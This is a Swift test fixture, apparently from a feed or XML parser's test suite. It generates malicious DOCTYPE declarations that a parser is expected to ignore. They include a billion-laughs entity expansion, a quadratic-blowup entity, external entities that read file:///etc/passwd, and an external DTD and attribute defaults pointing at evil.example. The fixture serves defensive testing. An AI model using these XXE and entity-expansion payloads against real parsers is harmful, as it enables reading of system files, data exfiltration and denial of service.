/// Declarations that a reader must pass over, whatever they hold (POD-7).
enum Doctype: CaseIterable, Sendable {
    case plain, laughs, quadratic, external, parameters, defaults

    /// What texts refer to; each is declared by some of them.
    static let names = ["boom", "l9", "q", "secret"]

    /// - Parameter root: The element that it is for.
    func text(root: String) -> String {
        switch self {
        case .plain: "<!DOCTYPE \(root)>"
        case .laughs: declared(root, Self.laughing)
        case .quadratic: declared(root, "<!ENTITY q \"\(String(repeating: "Q", count: 20_000))\">")
        case .external:
            "<!doctype \(root) SYSTEM \"https://evil.example/x.dtd\" "
                + "[<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>"
        case .parameters:
            declared(root, "<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p; <!ENTITY boom \"%p;]>\">")
        case .defaults:
            declared(
                root,
                """
                <!-- don't ]> --><!ATTLIST enclosure url CDATA "https://evil.example/x.mp3">
                <!ATTLIST item xml:base CDATA "https://evil.example/">
                <!ATTLIST outline xmlUrl CDATA "https://evil.example/f">
                <!ENTITY boom '<title>boom</title>'>
                """)
        }
    }

    private func declared(_ root: String, _ declarations: String) -> String {
        "<!DOCTYPE \(root) [\(declarations)]>"
    }

    private static let laughing =
        "<!ENTITY l0 \"ha\">"
        + (1...9).map { level in
            "<!ENTITY l\(level) \"\(String(repeating: "&l\(level - 1);", count: 10))\">"
        }.joined()
}
